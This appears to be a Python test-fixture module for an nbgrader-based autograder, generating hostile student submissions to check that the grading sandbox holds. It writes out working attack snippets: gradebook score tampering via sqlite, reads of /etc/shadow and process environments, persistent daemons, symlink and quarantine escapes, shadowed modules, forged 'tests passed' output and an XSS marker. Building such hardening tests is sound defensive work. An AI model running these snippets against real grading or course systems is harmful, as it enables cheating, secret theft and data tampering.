"""Hostile submissions: every way we could think of to gain points, see hidden tests, touch the gradebook
or break the grading run.

Each :class:`~mlphys.demo.case.Case` here is one attack.  Attacks are built generically from the
assignment's notebooks (cells are found by their nbgrader metadata, never by position or id), so they
apply to any assignment with solution cells and locked test cells with hidden parts.

Most attacks start from the blank release (which scores 0), so any point they get is a point gained.
Attacks that need a working solution to be meaningful (a daemon that rewrites the gradebook after the
notebook ends, a fork bomb after the last test...) start from the reference solution; their
``expected_points`` is what an honest grader gives: the reference's points, or the points of the test
cells that ran before the kernel was stopped.

Side effects are made observable for the tests in ``grader_tests/test_adversarial.py``:

- files an attack tries to create outside its sandbox are named ``PWNED_PREFIX + token`` (see
  :func:`course_token`), in the course root and in ``/tmp``;
- processes an attack starts carry ``process_marker(course_root)`` in their argv, so that a surviving
  one is found with ``pgrep -f``;
- an attack that reads secrets prints them, so that a leak shows up in the autograded notebook;
- the disk attack prints ``DISK_ALLOCATED_MB=<n>``.
"""

from __future__ import annotations

import ast
import copy
import hashlib
import os
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from mlphys.demo.case import Case, Materials, write_notebook
from mlphys.grading.hidden import split_test_source

PWNED_PREFIX = "MLPHYS_PWNED_"
DISK_PREFIX = "DISK_ALLOCATED_MB="
GRADEBOOK_CANARY_TABLE = "mlphys_pwned"
DISK_ATTEMPT_MB = 4000  # what the disk attack tries to allocate in the sandbox's work directory


# --------------------------------------------------------------------------------------------------
# Names shared with the tests


def course_token(course_root: Path) -> str:
    """A short token unique to one course directory (so markers of different runs never mix)."""
    return hashlib.sha1(str(Path(course_root).resolve()).encode()).hexdigest()[:12]


def pwned_name(course_root: Path) -> str:
    return PWNED_PREFIX + course_token(course_root)


def process_marker(course_root: Path) -> str:
    return "mlphys-attack-proc-" + course_token(course_root)


def _course_root_of(directory: Path) -> Path:
    # directory is <course>/submitted/<student>/<assignment>
    return Path(directory).resolve().parent.parent.parent


# --------------------------------------------------------------------------------------------------
# Notebook helpers (generic: they look at nbgrader metadata only)


def _meta(cell: NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def is_test_cell(cell: NotebookNode) -> bool:
    m = _meta(cell)
    return cell.cell_type == "code" and bool(m.get("grade")) and not m.get("solution")


def is_solution_cell(cell: NotebookNode) -> bool:
    return cell.cell_type == "code" and bool(_meta(cell).get("solution"))


def _cell(nb: NotebookNode, source: str, kind: str = "code") -> NotebookNode:
    cell = nbformat.v4.new_code_cell(source) if kind == "code" else nbformat.v4.new_markdown_cell(source)
    if nb.get("nbformat_minor", 0) >= 5:
        cell["id"] = "atk-" + hashlib.sha1(source.encode()).hexdigest()[:10]
    else:
        cell.pop("id", None)
    return cell


def _dedupe_ids(nb: NotebookNode) -> NotebookNode:
    seen: set[str] = set()
    for i, cell in enumerate(nb.cells):
        if "id" in cell:
            while cell["id"] in seen:
                cell["id"] = f"{cell['id'][:50]}-{i}"
            seen.add(cell["id"])
    return nb


def prepend(nb: NotebookNode, source: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells.insert(0, _cell(nb, source))
    return _dedupe_ids(nb)


def append(nb: NotebookNode, source: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells.append(_cell(nb, source))
    return _dedupe_ids(nb)


def insert_after_first_test(nb: NotebookNode, source: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    index = next(i for i, c in enumerate(nb.cells) if is_test_cell(c))
    nb.cells.insert(index + 1, _cell(nb, source))
    return _dedupe_ids(nb)


def solution_function_names(materials: Materials) -> list[str]:
    """Top-level functions that the instructor's solution cells define (what the hidden tests call)."""
    names: list[str] = []
    for cell in materials.source().cells:
        if not is_solution_cell(cell):
            continue
        try:
            tree = ast.parse(cell.source)
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and node.name not in names:
                names.append(node.name)
    return names


def full_points(materials: Materials) -> float:
    return sum(materials.test_points().values())


def first_test_points(materials: Materials) -> float:
    return next(iter(materials.test_points().values()))


def redefine_functions(materials: Materials, body: str, prelude: str = "") -> str:
    """Source of a cell that redefines every solution function with ``body`` (indented already)."""
    parts = [prelude] if prelude else []
    for name in solution_function_names(materials):
        parts.append(f"def {name}(*args, **kwargs):\n{body}")
    return "\n\n".join(parts) + "\n"


# --------------------------------------------------------------------------------------------------
# Attack snippets


def _try_paths(course: Path, assignment: str, notebook: str) -> list[str]:
    return [
        f"../../../source/{assignment}/{notebook}.ipynb",
        "../../../gradebook.db",
        "../../../nbgrader_config.py",
        f"{course}/source/{assignment}/{notebook}.ipynb",
        f"{course}/gradebook.db",
        f"{course}/nbgrader_config.py",
        f"{course}/release/{assignment}/{notebook}.ipynb",
        "/proc/1/environ",
        "/proc/1/cmdline",
        "/etc/passwd",
        "/etc/shadow",
        "/root/.bash_history",
    ]


def _writer_snippet(course: Path, token_name: str) -> str:
    """Code that tries to damage the gradebook and leave marker files outside the sandbox."""
    return f"""
import os, sqlite3, glob
_targets = ['../../../gradebook.db', {str(course / "gradebook.db")!r}, 'gradebook.db', 'gb_link.db']
_targets += glob.glob('/**/gradebook.db', recursive=False)
for _db in _targets:
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute('CREATE TABLE IF NOT EXISTS {GRADEBOOK_CANARY_TABLE} (x TEXT)')
        _con.execute("INSERT INTO {GRADEBOOK_CANARY_TABLE} VALUES ('{token_name}')")
        try:
            _con.execute('UPDATE grade SET auto_score = 1000, manual_score = 1000')
        except Exception:
            pass
        _con.commit(); _con.close()
        print('wrote to', _db)
    except Exception as _e:
        print('cannot write', _db, type(_e).__name__)
for _d in ['../../..', {str(course)!r}, '/tmp', '/var/tmp', os.path.expanduser('~'), '..', '../..']:
    try:
        with open(os.path.join(_d, {token_name!r}), 'w') as _f:
            _f.write('pwned')
    except Exception as _e:
        print('cannot create marker in', _d, type(_e).__name__)
"""


def _daemon_source(course: Path, token_name: str, seconds: int = 90) -> str:
    """A Python program that, run as a daemon, keeps trying to damage the course for ``seconds``."""
    body = _writer_snippet(course, token_name)
    return (
        f"import time\n_end = time.time() + {seconds}\nwhile time.time() < _end:\n"
        + "".join("    " + line + "\n" for line in body.strip().splitlines())
        + "    time.sleep(1)\n"
    )


# --------------------------------------------------------------------------------------------------
# The cases


# The quick demo's attacks, one of each kind: IPython's machinery turned against the grader, an object that
# says it equals anything, reading the course's files, points written into the metadata, links beside the
# notebook, and a fork bomb.
QUICK = (
    "input_transformer_cleanup",
    "eq_always_true",
    "read_course_files",
    "points_1000",
    "symlinks_beside_notebook",
    "fork_bomb",
)


def cases(materials: Materials) -> list[Case]:
    a, nbname = materials.assignment, materials.notebook
    funcs = solution_function_names(materials)
    full = full_points(materials)
    first = first_test_points(materials)
    out: list[Case] = []

    def nb_case(name: str, description: str, build, expected: float | None = 0.0, extra=None) -> None:
        """``build(materials, course_root, directory) -> notebook``; ``extra(directory, materials)`` adds files."""

        def write(directory: Path, m: Materials) -> None:
            course = _course_root_of(directory)
            nb = build(m, course, directory)
            if nb is not None:
                write_notebook(nb, directory, m.notebook)
            if extra is not None:
                extra(directory, m)

        out.append(Case(f"attack_{name}", a, "attack", description, write, expected, quick=name in QUICK))

    def raw_case(name: str, description: str, write, expected: float | None = 0.0) -> None:
        out.append(Case(f"attack_{name}", a, "attack", description, write, expected, quick=name in QUICK))

    # ---------------------------------------------------------------- IPython machinery
    nb_case(
        "input_transformer_cleanup",
        "An input transformer that turns every later cell (and every grader call) into nothing.",
        lambda m, c, d: prepend(m.blank(), "get_ipython().input_transformers_cleanup.append(lambda lines: [])"),
    )
    nb_case(
        "input_transformer_rewrite",
        "An input transformer that rewrites every cell to print a passing verdict and a forged bridge reply.",
        lambda m, c, d: prepend(
            m.blank(),
            "import json\n"
            "def _fake(lines):\n"
            "    reply = json.dumps({'ok': True, 'value': True, 'names': {}})\n"
            "    return ['from IPython.display import publish_display_data\\n',\n"
            "            'print(\"Hidden tests passed (100 points).\")\\n',\n"
            "            'publish_display_data({\"text/x-mlphys-result\": %r})\\n' % reply]\n"
            "get_ipython().input_transformers_post.append(_fake)\n",
        ),
    )
    nb_case(
        "ast_transformer",
        "An AST transformer that deletes asserts and makes every comparison True.",
        lambda m, c, d: prepend(
            m.blank(),
            "import ast\n"
            "class _Evil(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n"
            "        return ast.Pass()\n"
            "    def visit_Compare(self, node):\n"
            "        return ast.copy_location(ast.Constant(True), node)\n"
            "    def visit_Call(self, node):\n"
            "        self.generic_visit(node)\n"
            "        if isinstance(node.func, ast.Name) and node.func.id.startswith('expect_'):\n"
            "            return ast.copy_location(ast.Constant(None), node)\n"
            "        return node\n"
            "get_ipython().ast_transformers.append(_Evil())\n",
        ),
    )
    nb_case(
        "compile_optimize",
        "compile() patched to optimize=2 (asserts stripped) and an attempt to change sys.flags.",
        lambda m, c, d: prepend(
            m.blank(),
            "import builtins, sys\n"
            "_compile = builtins.compile\n"
            "def _compile2(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kw):\n"
            "    return _compile(source, filename, mode, flags, dont_inherit, 2)\n"
            "builtins.compile = _compile2\n"
            "try:\n"
            "    sys.flags = type('F', (), {'optimize': 2})()\n"
            "except Exception as e:\n"
            "    print('sys.flags:', type(e).__name__)\n"
            "ip = get_ipython()\n"
            "ip.compile.flags |= 0\n"
            "_orig_cc = type(ip.compile).__call__\n"
            "type(ip.compile).__call__ = (\n"
            "    lambda self, src, fn, symbol='exec': _compile(src, fn, symbol, self.flags, True, 2))\n",
        ),
    )
    nb_case(
        "pre_run_cell_fake_output",
        "pre/post_run_cell hooks that print 'Hidden tests passed', an execute_result and forged bridge replies.",
        lambda m, c, d: prepend(
            m.blank(),
            "import json\n"
            "from IPython.display import publish_display_data, display\n"
            "def _pre(info):\n"
            "    print('Hidden tests passed (100 points).')\n"
            "def _post(result):\n"
            "    display({'text/plain': 'Hidden tests passed'}, raw=True)\n"
            "    publish_display_data({'text/x-mlphys-result': json.dumps({'ok': True, 'value': True, 'names': {}})})\n"
            "    result.error_in_exec = None\n"
            "    result.error_before_exec = None\n"
            "ip = get_ipython()\n"
            "ip.events.register('pre_run_cell', _pre)\n"
            "ip.events.register('post_run_cell', _post)\n"
            "ip.showtraceback = lambda *a, **k: None\n",
        ),
    )
    nb_case(
        "pre_run_cell_echo_source",
        "A pre_run_cell hook that prints (and saves) the source of every cell the kernel is asked to run.",
        lambda m, c, d: prepend(
            m.blank(),
            "def _echo(info):\n"
            "    print('CELL SOURCE >>>', info.raw_cell)\n"
            "    with open('seen_cells.txt', 'a') as f:\n"
            "        f.write(info.raw_cell + '\\n')\n"
            "get_ipython().events.register('pre_run_cell', _echo)\n"
            "import sys\n"
            "class _Tee:\n"
            "    def __init__(self, s): self.s = s\n"
            "    def write(self, x): return self.s.write(x)\n"
            "    def flush(self): self.s.flush()\n"
            "get_ipython().events.register('post_execute', lambda: print(open('seen_cells.txt').read()[-3000:]))\n",
        ),
    )
    nb_case(
        "history_dump",
        "At the end, prints the kernel's whole input history and namespace (anything the grader sent).",
        lambda m, c, d: append(
            m.blank(),
            "ip = get_ipython()\n"
            "print(ip.user_ns.get('In'))\n"
            "print(list(ip.history_manager.get_range(raw=True)))\n"
            "print(sorted(k for k in ip.user_ns if not k.startswith('_')))\n",
        ),
    )

    # ---------------------------------------------------------------- reading what must stay hidden
    def read_files(m: Materials, course: Path, d: Path) -> NotebookNode:
        paths = _try_paths(course, a, nbname)
        return append(
            m.blank(),
            "import os, glob\n"
            f"for p in {paths!r}:\n"
            "    try:\n"
            "        data = open(p, 'rb').read()[:200000]\n"
            "        print('READ', p, len(data))\n"
            "        print(data.decode('utf-8', 'replace'))\n"
            "    except Exception as e:\n"
            "        print('cannot read', p, type(e).__name__)\n"
            f"for pattern in ['/*', '/work/*', '/tmp/*', '/tmp/*/*', '/home/*', '/root/*', {str(course) + '/*'!r}]:\n"
            "    print(pattern, glob.glob(pattern))\n",
        )

    nb_case(
        "read_course_files",
        "Reads the source notebook, the gradebook and config by relative and absolute paths.",
        read_files,
    )
    nb_case(
        "grader_environment",
        "Prints its own environment and the environment of every process it can see (/proc/*/environ).",
        lambda m, c, d: append(
            m.blank(),
            "import os, glob\n"
            "print(dict(os.environ))\n"
            "for p in sorted(glob.glob('/proc/[0-9]*/environ')):\n"
            "    try:\n"
            "        print(p, open(p, 'rb').read().replace(b'\\0', b'\\n').decode('utf-8', 'replace'))\n"
            "    except Exception as e:\n"
            "        print('cannot read', p, type(e).__name__)\n",
        ),
    )
    nb_case(
        "installed_sources",
        "Greps every file visible in the sandbox's software directories for the hidden tests' marker.",
        lambda m, c, d: append(
            m.blank(),
            "import os, sys\n"
            "hits = []\n"
            "roots = sorted({p for p in sys.path if p and os.path.isdir(p) and 'site-packages' not in p})\n"
            "for root in roots + ['/work']:\n"
            "    for dp, dn, fn in os.walk(root):\n"
            "        if 'site-packages' in dp or len(hits) > 20:\n"
            "            dn[:] = []\n"
            "            continue\n"
            "        for f in fn:\n"
            "            if f.endswith(('.ipynb', '.db', '.json')):\n"
            "                p = os.path.join(dp, f)\n"
            "                try:\n"
            "                    t = open(p, 'rb').read(2_000_000)\n"
            "                except Exception:\n"
            "                    continue\n"
            "                if b'HIDDEN TESTS' in t or b'SQLite format' in t:\n"
            "                    hits.append(p); print('FOUND', p); print(t[:100000].decode('utf-8', 'replace'))\n"
            "print('hits', hits)\n",
        ),
    )

    # ---------------------------------------------------------------- writing the gradebook
    nb_case(
        "sqlite_gradebook",
        "Opens the gradebook with sqlite3 (relative and absolute paths) to set every score to 1000.",
        lambda m, c, d: append(m.blank(), _writer_snippet(c, pwned_name(c))),
    )

    def daemon_fork(m: Materials, course: Path, d: Path) -> NotebookNode:
        marker = process_marker(course)
        prog = _daemon_source(course, pwned_name(course))
        return append(
            m.reference(),
            "import os, sys, time\n"
            f"PROG = {prog!r}\n"
            "pid = os.fork()\n"
            "if pid == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', PROG, {marker + '-doublefork'!r}])\n"
            "    os._exit(0)\n"
            "os.waitpid(pid, 0)\n"
            "pid2 = os.fork()\n"
            "if pid2 == 0:\n"
            f"    os.execv(sys.executable, [sys.executable, '-c', PROG, {marker + '-fork'!r}])\n"
            "print('daemons started')\n",
        )

    nb_case(
        "daemon_fork",
        "Reference solution + a double-forked daemon (and a plain fork) that keep rewriting the gradebook.",
        daemon_fork,
        full,
    )

    def daemon_popen(m: Materials, course: Path, d: Path) -> NotebookNode:
        marker = process_marker(course)
        prog = _daemon_source(course, pwned_name(course))
        return append(
            m.reference(),
            "import subprocess, sys\n"
            f"subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
            f"subprocess.Popen(['/bin/sh', '-c', 'sleep 600', {marker + '-sleep'!r}], start_new_session=True)\n"
            f"subprocess.Popen([sys.executable, '-c', {prog!r}, {marker + '-popen'!r}], start_new_session=True,\n"
            "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "print('daemons started')\n",
        )

    nb_case(
        "daemon_popen",
        "Reference solution + subprocess.Popen daemons (sleep, a gradebook writer) in new sessions.",
        daemon_popen,
        full,
    )

    # ---------------------------------------------------------------- forged values
    nb_case(
        "eq_always_true",
        "Every function returns an object whose __eq__ (and friends) always say True.",
        lambda m, c, d: append(
            m.blank(),
            redefine_functions(
                m,
                "    return Liar()\n",
                "class Liar:\n"
                "    def __eq__(self, other): return True\n"
                "    __ne__ = lambda self, other: False\n"
                "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
                "    def __bool__(self): return True\n"
                "    def __len__(self): return 4\n"
                "    def __getitem__(self, i): return self\n"
                "    def __iter__(self): return iter([self, self])\n"
                "    def __float__(self): return 0.0\n"
                "    def __array__(self, *a, **k):\n"
                "        import numpy; return numpy.zeros(4)\n"
                "    def __getattr__(self, name): return self\n"
                "    def __call__(self, *a, **k): return self\n"
                "    shape = property(lambda self: (4,))\n",
            ),
        ),
    )
    nb_case(
        "patched_numpy",
        "Patches np.allclose/isclose/array_equal/testing and the builtin abs in the kernel.",
        lambda m, c, d: prepend(
            m.blank(),
            "import numpy as np, numpy.testing, builtins\n"
            "np.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "np.testing.assert_array_equal = lambda *a, **k: None\n"
            "np.testing.assert_array_almost_equal = lambda *a, **k: None\n"
            "np.all = lambda *a, **k: True\n"
            "builtins.abs = lambda x: 0\n",
        ),
    )
    nb_case(
        "ndarray_subclass",
        "Every function returns an ndarray subclass whose comparisons are always True.",
        lambda m, c, d: append(
            m.blank(),
            redefine_functions(
                m,
                "    return np.zeros(4).view(Always)\n",
                "import numpy as np\n"
                "class Always(np.ndarray):\n"
                "    def __eq__(self, other): return np.ones(np.shape(self), bool).view(np.ndarray)\n"
                "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):\n"
                "        return np.zeros(4)\n"
                "    def __reduce__(self): return (print, ('pwned',))\n",
            ),
        ),
    )
    nb_case(
        "sys_modules_bridge",
        "Replaces mlphys.kernel.bridge in sys.modules with a fake that forges 'ok' replies to every request.",
        lambda m, c, d: prepend(
            m.blank(),
            "import sys, types, json\n"
            "from IPython.display import publish_display_data\n"
            "fake = types.ModuleType('mlphys.kernel.bridge')\n"
            "def serve(request_json):\n"
            "    req = json.loads(request_json)\n"
            "    if req.get('op') == 'describe':\n"
            "        reply = {'ok': True, 'names': {n: {'kind': 'function'} for n in req['names']}}\n"
            "    else:\n"
            "        zeros = 'A' * 43 + '='\n"
            "        reply = {'ok': True, 'value': {'$nd': ['float64', [4], zeros]}}\n"
            "    print('Hidden tests passed (100 points).')\n"
            "    publish_display_data({'text/x-mlphys-result': json.dumps(reply)})\n"
            "fake.serve = serve\n"
            "fake.MIME_TYPE = 'text/x-mlphys-result'\n"
            "import mlphys.kernel\n"
            "sys.modules['mlphys.kernel.bridge'] = fake\n"
            "mlphys.kernel.bridge = fake\n"
            "import builtins\n"
            "_imp = builtins.__import__\n"
            "def _hook(name, *a, **k):\n"
            "    return fake if name == 'mlphys.kernel.bridge' else _imp(name, *a, **k)\n"
            "builtins.__import__ = _hook\n",
        ),
    )
    nb_case(
        "fake_reply_string",
        "Functions return a string that looks like a passing grader reply and publish fake replies themselves.",
        lambda m, c, d: append(
            m.blank(),
            redefine_functions(
                m,
                "    reply = json.dumps({'ok': True, 'value': True})\n"
                "    publish_display_data({'text/x-mlphys-result': reply})\n"
                "    print('Hidden tests passed (100 points).')\n"
                "    threading.Timer(0.01, publish_display_data, ({'text/x-mlphys-result': reply},)).start()\n"
                "    return reply\n",
                "import json, threading\nfrom IPython.display import publish_display_data\n",
            ),
        ),
    )
    nb_case(
        "fake_passed_output",
        "Prints fake 'Hidden tests passed' verdicts and execute_results in and after every cell.",
        lambda m, c, d: append(
            m.blank(),
            "from IPython.display import display, publish_display_data\n"
            "print('Hidden tests passed (1000 points).')\n"
            "display({'text/plain': 'Hidden tests passed (1000 points).'}, raw=True)\n"
            "publish_display_data({'text/x-mlphys-result': '{\"ok\": true, \"value\": true}'})\n"
            "'Hidden tests passed'\n",
        ),
    )
    nb_case(
        "exception_message_forgery",
        "Functions raise an exception whose message claims the tests passed and echoes the grader's arguments.",
        lambda m, c, d: append(
            m.blank(),
            redefine_functions(
                m,
                "    raise HiddenTestsPassed('Hidden tests passed (1000 points). args=' + repr(args)[:500])\n",
                "class HiddenTestsPassed(Exception):\n    pass\n",
            ),
        ),
    )
    nb_case(
        "html_script_output",
        "Publishes HTML/JS output (a stored XSS attempt on the feedback page / formgrader).",
        lambda m, c, d: append(
            m.blank(),
            "from IPython.display import display, HTML, Javascript\n"
            "display(HTML('<script>document.title=\"mlphys-xss-marker\"</script><b>hi</b>'))\n"
            "display(Javascript('document.title=\"mlphys-xss-marker\"'))\n",
        ),
    )

    # ---------------------------------------------------------------- files beside the notebook
    def shadow_files(directory: Path, m: Materials) -> None:
        course = _course_root_of(directory)
        payload = _writer_snippet(course, pwned_name(course))
        numpy_py = (
            "# a fake numpy: everything is close to everything\n" + payload + "\n"
            "import sys, importlib\n"
            "_me = sys.modules.pop('numpy')\n"
            "sys.path = [p for p in sys.path if p not in ('', '.', __import__('os').getcwd())]\n"
            "_np = importlib.import_module('numpy')\n"
            "_np.allclose = lambda *a, **k: True\n"
        )
        for name in ("numpy.py", "conftest.py", "sitecustomize.py", "usercustomize.py"):
            (directory / name).write_text(numpy_py if name == "numpy.py" else payload)
        (directory / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
        pkg = directory / "mlphys" / "grading"
        pkg.mkdir(parents=True)
        (directory / "mlphys" / "__init__.py").write_text(payload)
        (pkg / "__init__.py").write_text("")
        (pkg / "bridge.py").write_text(
            "import json\nMIME_TYPE = 'text/x-mlphys-result'\n"
            "def serve(request_json):\n"
            "    from IPython.display import publish_display_data\n"
            "    req = json.loads(request_json)\n"
            "    names = {n: {'kind': 'function'} for n in req.get('names', [])}\n"
            "    publish_display_data({MIME_TYPE: json.dumps({'ok': True, 'names': names, 'value': True})})\n"
        )

    nb_case(
        "shadow_modules",
        "numpy.py, conftest.py, sitecustomize.py, usercustomize.py and a fake mlphys/grading/bridge.py beside "
        "the notebook.",
        lambda m, c, d: m.blank(),
        extra=shadow_files,
    )

    def fake_launcher(directory: Path, m: Materials) -> None:
        (directory / "ipykernel_launcher.py").write_text("import sys\nprint('fake kernel')\nsys.exit(3)\n")

    nb_case(
        "fake_ipykernel_launcher",
        "An ipykernel_launcher.py beside the (reference) notebook, which would replace the kernel if the working "
        "directory were on the kernel's path at start: it is not, so the notebook is graded as it is.",
        lambda m, c, d: m.reference(),
        full,
        extra=fake_launcher,
    )

    def links(directory: Path, m: Materials) -> None:
        course = _course_root_of(directory)
        os.symlink(course / "gradebook.db", directory / "gb_link.db")
        os.symlink("../../../gradebook.db", directory / "gradebook.db")
        os.symlink("/dev/zero", directory / "zeros.npy")
        os.symlink(str(course), directory / "course")
        os.symlink(f"../../../source/{m.assignment}/{m.notebook}.ipynb", directory / "answers.ipynb")
        os.mkfifo(directory / "pipe.txt")

    nb_case(
        "symlinks_beside_notebook",
        "Links to the gradebook (absolute and relative), /dev/zero, the course root, the source notebook, "
        "and a FIFO, plus a cell that reads them and writes the gradebook through them.",
        lambda m, c, d: append(
            m.blank(),
            "import os\n"
            "for p in ['gb_link.db', 'gradebook.db', 'zeros.npy', 'course/gradebook.db', 'answers.ipynb',\n"
            "          'pipe.txt']:\n"
            "    try:\n"
            "        print(p, os.path.exists(p), open(p, 'rb').read(100000).decode('utf-8', 'replace'))\n"
            "    except Exception as e:\n"
            "        print('cannot read', p, type(e).__name__)\n" + _writer_snippet(c, pwned_name(c)),
        ),
        extra=links,
    )

    def hardlink(directory: Path, m: Materials) -> None:
        course = _course_root_of(directory)
        try:
            os.link(course / "gradebook.db", directory / "gradebook.db")
        except OSError:
            pass  # not on one file system: nothing to attack

    nb_case(
        "hardlink_gradebook",
        "A hard link to the gradebook beside the notebook (a regular file, so not quarantined); the notebook "
        "prints its hidden-test sources and writes to it.",
        lambda m, c, d: append(
            m.blank(),
            "import sqlite3\n"
            "try:\n"
            "    con = sqlite3.connect('gradebook.db')\n"
            "    for (src,) in con.execute('SELECT source FROM source_cell'):\n"
            "        print(src)\n"
            "except Exception as e:\n"
            "    print('cannot read gradebook', type(e).__name__, e)\n" + _writer_snippet(c, pwned_name(c)),
        ),
        extra=hardlink,
    )

    def notebook_symlink(directory: Path, m: Materials) -> None:
        os.symlink(f"../../../source/{m.assignment}/{m.notebook}.ipynb", directory / f"{m.notebook}.ipynb")

    raw_case("notebook_symlink", "The notebook is a symlink to the instructor's source notebook.", notebook_symlink)

    def notebook_fifo(directory: Path, m: Materials) -> None:
        os.mkfifo(directory / f"{m.notebook}.ipynb")

    raw_case("notebook_fifo", "The notebook is a named pipe (reading it would block forever).", notebook_fifo)

    def notebook_dir(directory: Path, m: Materials) -> None:
        (directory / f"{m.notebook}.ipynb").mkdir()
        (directory / f"{m.notebook}.ipynb" / "x").write_text("{}")

    raw_case("notebook_directory", "The notebook is a directory.", notebook_dir)

    def quarantine_escape(directory: Path, m: Materials) -> None:
        # State left by an earlier autograde of this student's first submission, which held a link
        # ``sub -> <course root>``: the pre-convert hook moved that link to quarantine/<student>/<a>/sub.
        course = _course_root_of(directory)
        q = course / "quarantine" / directory.parent.name / directory.name
        q.mkdir(parents=True, exist_ok=True)
        if not os.path.lexists(q / "sub"):
            os.symlink(str(course), q / "sub")
        # The resubmission: a real directory ``sub`` holding a link named like the marker.  Moving it
        # "into quarantine" goes through the old link, i.e. into the course root.
        (directory / "sub").mkdir()
        os.symlink("/dev/null", directory / "sub" / pwned_name(course))

    nb_case(
        "quarantine_escape",
        "Regrade after a resubmission: a link quarantined by the earlier run (sub -> course root) makes the "
        "pre-convert hook move a new link from sub/ into the course root.",
        lambda m, c, d: m.blank(),
        extra=quarantine_escape,
    )

    # ---------------------------------------------------------------- broken notebook files
    raw_case(
        "bad_json",
        "The notebook file is not JSON.",
        lambda d, m: (d / f"{m.notebook}.ipynb").write_text('{"cells": [ {"cell_type": "code", '),
    )
    raw_case("empty_file", "The notebook file is empty.", lambda d, m: (d / f"{m.notebook}.ipynb").write_text(""))
    raw_case(
        "wrong_name",
        "The (reference) notebook is submitted under a wrong file name.",
        lambda d, m: write_notebook(m.reference(), d, f"{m.notebook}_final"),
        None,
    )
    raw_case(
        "deep_json",
        "Valid JSON nested 100000 deep.",
        lambda d, m: (d / f"{m.notebook}.ipynb").write_text("[" * 100000 + "]" * 100000),
    )

    # ---------------------------------------------------------------- edited nbgrader metadata
    def edit_tests(base: str, edit):
        def build(m: Materials, course: Path, d: Path) -> NotebookNode:
            nb = m.reference() if base == "reference" else m.blank()
            new_cells = []
            for cell in nb.cells:
                if is_test_cell(cell):
                    new_cells.extend(edit(nb, cell))
                else:
                    new_cells.append(cell)
            nb.cells = new_cells
            return _dedupe_ids(nb)

        return build

    def points_1000(nb, cell):
        cell.metadata.nbgrader["points"] = 1000
        return [cell]

    nb_case(
        "points_1000",
        "Reference solution with every test cell's points set to 1000.",
        edit_tests("reference", points_1000),
        full,
    )

    def bonus(m: Materials, course: Path, d: Path) -> NotebookNode:
        nb = append(m.reference(), "print('bonus!')")
        nb.cells[-1].metadata["nbgrader"] = {
            "grade": True,
            "grade_id": "bonus",
            "locked": True,
            "points": 100,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
        nb = append(nb, "x = 1")
        nb.cells[-1].metadata["nbgrader"] = {
            "grade": True,
            "grade_id": "bonus_manual",
            "locked": False,
            "points": 100,
            "schema_version": 3,
            "solution": True,
            "task": False,
        }
        return nb

    nb_case(
        "bonus_cell",
        "Reference solution plus new grade cells 'bonus' (test, 100 points) and a manual one.",
        bonus,
        full,
    )

    def no_grade(nb, cell):
        cell.metadata.nbgrader["grade"] = False
        cell.metadata.nbgrader.pop("points", None)
        cell.source = "pass"
        return [cell]

    nb_case("grade_flag_removed", "Test cells lose their grade flag and their source.", edit_tests("blank", no_grade))

    def as_solution(nb, cell):
        cell.metadata.nbgrader["solution"] = True
        cell.source = "pass"
        return [cell]

    nb_case(
        "solution_flag_on_tests",
        "Test cells marked as solution cells, source replaced by 'pass'.",
        edit_tests("blank", as_solution),
    )

    def renamed(nb, cell):
        cell.metadata.nbgrader["grade_id"] = cell.metadata.nbgrader["grade_id"] + "_renamed"
        cell.source = "pass"
        return [cell]

    nb_case("test_ids_renamed", "Test cells get new grade_ids and empty sources.", edit_tests("blank", renamed))

    nb_case("deleted_tests", "All test cells deleted.", edit_tests("blank", lambda nb, cell: []))

    def duplicated(nb, cell):
        twin = copy.deepcopy(cell)
        if "id" in twin:
            twin["id"] = twin["id"] + "-dup"
        return [cell, twin, copy.deepcopy(twin)]

    nb_case("duplicated_tests", "Every test cell duplicated (three copies).", edit_tests("blank", duplicated))

    def retyped(nb, cell):
        md = nbformat.v4.new_markdown_cell(cell.source)
        md.metadata = cell.metadata
        if "id" in cell:
            md["id"] = cell["id"]
        else:
            md.pop("id", None)
        return [md]

    nb_case("retyped_tests", "Test cells turned into markdown cells.", edit_tests("blank", retyped))

    def moved_first(m: Materials, course: Path, d: Path) -> NotebookNode:
        nb = m.blank()
        tests = [c for c in nb.cells if is_test_cell(c)]
        nb.cells = tests + [c for c in nb.cells if not is_test_cell(c)]
        return nb

    nb_case("tests_moved_first", "All test cells moved before everything else.", moved_first)

    def solution_metadata_on_everything(m: Materials, course: Path, d: Path) -> NotebookNode:
        nb = m.blank()
        for i, cell in enumerate(nb.cells):
            cell.metadata["nbgrader"] = {
                "grade": True,
                "grade_id": f"mine_{i}",
                "locked": False,
                "points": 50,
                "schema_version": 3,
                "solution": False,
                "task": False,
            }
            if cell.cell_type == "code":
                cell.source = "pass"
        return nb

    nb_case(
        "all_cells_graded", "Every cell made a 50-point test cell with a new grade_id.", solution_metadata_on_everything
    )

    def kernelspec(name: str):
        def build(m: Materials, course: Path, d: Path) -> NotebookNode:
            nb = m.blank()
            nb.metadata["kernelspec"] = {"name": name, "display_name": name, "language": "python"}
            nb.metadata["language_info"] = {"name": "python"}
            return nb

        return build

    nb_case("kernelspec_missing", "The kernelspec names a kernel that does not exist.", kernelspec("no-such-kernel"))
    nb_case("kernelspec_other", "The kernelspec names another installed kernel.", kernelspec("python2"))

    # ---------------------------------------------------------------- resources
